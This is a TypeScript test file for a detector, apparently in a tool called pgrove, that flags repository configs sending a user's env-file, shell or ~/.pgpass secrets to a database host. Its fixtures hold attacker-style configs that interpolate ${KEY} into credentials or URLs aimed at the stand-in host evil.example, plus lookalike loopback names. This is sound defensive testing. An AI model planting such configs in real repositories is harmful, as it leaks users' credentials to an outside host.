import { afterEach, describe, expect, test } from "bun:test";
import { mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { loadConfig } from "../../../src/config/load-config.ts";
import { gitCommand } from "../../../src/repo/git.ts";
import { findExposure } from "../../../src/resolve/exposed-host.ts";
import { systemRunner } from "../../../src/sys/process.ts";

const folders: string[] = [];
afterEach(async () => {
  for (const folder of folders.splice(0)) await rm(folder, { recursive: true });
});

interface Given {
  shell?: Record<string, string>;
  env?: Record<string, string>;
  /** The env file is committed. */
  committed?: boolean;
}

/** What a pgrove.yaml with these lines would send where; undefined when that is nothing of its user's own. */
async function exposed(lines: string, { shell = {}, env = {}, committed = false }: Given): Promise<string | undefined> {
  const folder = await mkdtemp(join(tmpdir(), "pgrove-exposed-"));
  folders.push(folder);
  const file = join(folder, "pgrove.yaml");
  const envFile = join(folder, ".env");
  await writeFile(file, `project: shop\n${lines}`);
  await writeFile(envFile, "");
  await systemRunner.capture(gitCommand(folder, ["init", "-q"]));
  if (committed) await systemRunner.capture(gitCommand(folder, ["add", ".env"]));
  const loaded = await loadConfig(file, { environment: shell, envFile: env, envFileOf: () => envFile });
  const serverTools = async () => ({
    ...{ runner: systemRunner, clientImage: "", stageParent: folder },
    note: () => undefined,
  });
  return (await findExposure(loaded, { environment: shell, serverTools }))?.text;
}

const TO_EVIL = "server: {url: 'postgres://evil.example/db'}\n";

describe("a host that pgrove.yaml names is sent", () => {
  test.each([
    ["a value of the env file, as user", `${TO_EVIL}database: {user: "\${KEY}"}`],
    ["a value of the env file, as password", `${TO_EVIL}database: {password: "\${KEY}"}`],
    ["a value of the env file, as a part of a name", `${TO_EVIL}database: {name: "a-\${KEY}"}`],
    ["a value of the env file, in the URL", `server: {url: "postgres://x:\${KEY}@evil.example/db"}`],
  ])("%s", async (_, lines) => {
    expect(await exposed(lines, { env: { KEY: "sk" } })).toBe("evil.example:5432 is sent KEY");
    expect(await exposed(lines, { shell: { KEY: "sk" } })).toBe("evil.example:5432 is sent KEY");
  });

  test("nothing where the value is the repository's own: committed, or a default", async () => {
    const lines = `${TO_EVIL}database: {password: "\${KEY:-dev}"}`;
    expect(await exposed(lines, { env: { KEY: "sk" }, committed: true })).toBeUndefined();
    expect(await exposed(lines, {})).toBeUndefined();
  });

  test("nothing where the value is of no use there", async () => {
    expect(await exposed(`${TO_EVIL}env: {set: {A: "\${KEY}"}}`, { shell: { KEY: "sk" } })).toBeUndefined();
  });
});

describe("a host that a variable names", () => {
  const lines = `server: {url: "postgres://\${HOST}/db"}\ndatabase: {password: "\${KEY}"}`;

  test("is the user's own, of the shell or of an env file that is not committed", async () => {
    expect(await exposed(lines, { shell: { HOST: "db.example", KEY: "k" } })).toBeUndefined();
    expect(await exposed(lines, { env: { HOST: "db.example", KEY: "k" } })).toBeUndefined();
    expect(await exposed(lines, { shell: { HOST: "db.example" }, env: { KEY: "k" } })).toBeUndefined();
  });

  test("is the repository's where the env file is committed, or where the shell's value would go to the file's host", async () => {
    const mixed = { env: { HOST: "db.example" }, shell: { KEY: "k" } };
    expect(await exposed(lines, mixed)).toBe("db.example:5432 is sent KEY");
    expect(await exposed(lines, { ...mixed, committed: true })).toBe("db.example:5432 is sent KEY");
  });

  test("is not when the variable is only a part of its name", async () => {
    const part = `server: {url: "postgres://\${HOST}.evil.example/db"}`;
    expect(await exposed(part, { shell: { HOST: "db" } })).toBe("db.evil.example:5432 is sent HOST");
  });
});

test.each(["localhost", "127.0.0.1", "127.8.9.1", "[::1]"])("%s is this machine", async (host) => {
  const lines = `server: {url: "postgres://${host}/db"}\ndatabase: {password: "\${KEY}"}`;
  expect(await exposed(lines, { shell: { KEY: "k" } })).toBeUndefined();
});

test.each(["127.0.0.1.evil.example", "localhost.evil.example", "0x7f.1"])("%s is not", async (host) => {
  const lines = `server: {url: "postgres://${host}/db"}\ndatabase: {password: "\${KEY}"}`;
  expect(await exposed(lines, { shell: { KEY: "k" } })).toBe(`${host}:5432 is sent KEY`);
});

test("the name of a host is of no use where the repository says where to dial", async () => {
  const lines = `server: {url: "postgres://\${HOST}/db?hostaddr=192.0.2.1"}\ndatabase: {password: "\${KEY}"}`;
  const shell = { HOST: "db.example", KEY: "k" };
  expect(await exposed(lines, { shell })).toBe("db.example:5432 at 192.0.2.1 is sent HOST, KEY");
  expect(await exposed(lines.replace("192.0.2.1", "127.0.0.1"), { shell })).toBeUndefined();
  const several = lines.replace("db?hostaddr=192.0.2.1", "db").replace(/\{HOST\}/, "{HOST},127.0.0.1,evil.example");
  expect(await exposed(several, { shell })).toBe("db.example:5432, evil.example:5432 is sent HOST, KEY");
});

test("a password of ~/.pgpass is the user's own, too, unless it is kept for that host", async () => {
  const folder = await mkdtemp(join(tmpdir(), "pgrove-passfile-"));
  folders.push(folder);
  const sent = async (line: string, url: string) => {
    const file = join(folder, "pgpass");
    await writeFile(file, `${line}\n`, { mode: 0o600 });
    return await exposed(`server: {url: "postgres://${url}passfile=${encodeURIComponent(file)}"}`, {});
  };
  const any = "evil.example:5432 is sent a password of ~/.pgpass";
  expect(await sent("*:*:*:*:sk", "u@evil.example/db?")).toBe(any);
  expect(await sent("evil.example:*:*:*:sk", "u@evil.example/db?")).toBeUndefined();
  expect(await sent("*:*:*:other:sk", "u@evil.example/db?")).toBeUndefined();
  expect(await sent("db.example:*:*:*:sk", "u@db.example/db?hostaddr=192.0.2.1&")).toBe(
    "db.example:5432 at 192.0.2.1 is sent a password of ~/.pgpass",
  );
});
